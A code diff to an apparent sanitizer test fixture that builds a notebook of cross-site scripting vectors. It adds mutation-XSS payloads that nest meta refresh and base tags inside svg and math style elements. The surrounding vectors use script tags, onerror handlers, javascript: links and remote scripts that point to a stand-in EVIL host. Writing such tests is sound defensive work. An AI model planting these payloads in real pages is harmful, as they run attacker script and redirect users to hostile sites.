@@ -58,6 +58,9 @@ export function injectionNotebook(): { nb: any; vectors: Vector[] } {
   md("body onload", (n, js) => `<body onload="${js}">`);
   md("KaTeX \\href, \\url and \\includegraphics", (n, js) => `$\\href{javascript:${js}}{x}$ and $\\url{javascript:${js}}$ and $\\includegraphics{${EVIL}/tex-${n}.png}$`);
   md("a heading with an onerror image (the table of contents and title)", (n, js) => `## <img src=x onerror="${js}"> heading ${n}`);
+  md("meta refresh inside svg style (a <meta> to the browser, text to htmlparser2)", (n) => `<svg><style><meta http-equiv="refresh" content="0;url=${EVIL}/svgstyle-${n}"></style></svg>`);
+  md("meta refresh inside math mglyph style", (n) => `<math><mtext><table><mglyph><style><meta http-equiv="refresh" content="0;url=${EVIL}/mathstyle-${n}"></style></mglyph></table></mtext></math>`);
+  md("plaintext swallowing the rest of the page", () => `<plaintext>everything after this`);
   md("a comment that ends early", (n, js) => `<!-- --!><script>${js}</script> -->`);
   v("markdown: attachment whose data is not base64", (n, js) =>
     cells.push({ ...markdown(`![a](attachment:a${n}.png)`), attachments: { [`a${n}.png`]: { "image/png": `x" onerror="${js}` } } }),
@@ -79,6 +82,7 @@ export function injectionNotebook(): { nb: any; vectors: Vector[] } {
   display("text/html", "a module script and a remote script", (n, js) => `<script type="module">${js}</script><script src="${EVIL}/s-${n}.js"></script>`);
   display("text/html", "img onerror and srcset (network)", (n, js) => `<img src="x" srcset="${EVIL}/srcset-${n}.png 1x" onerror="${js}">`);
   display("text/html", "meta refresh", (n) => `<meta http-equiv="refresh" content="0;url=${EVIL}/html-refresh-${n}">`);
+  display("text/html", "meta refresh and base inside svg style", (n) => `<svg><style><base href="${EVIL}/b-${n}/"><meta http-equiv="refresh" content="0;url=${EVIL}/svg-html-${n}"></style></svg>`);
   display("text/html", "a javascript: link and an onclick", (n, js) => `<a id="jslink-${n}" href="javascript:${js}" onclick="${js}">click</a>`);
   display("text/html", "a fixed overlay with a style element (url)", (n) => `<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(${EVIL}/overlay-${n}.png)">covered</div>`);
   display("text/html", "an unclosed comment and unbalanced tags", (n, js) => `</div></section></main><div><!-- <script>${js}</script>`);
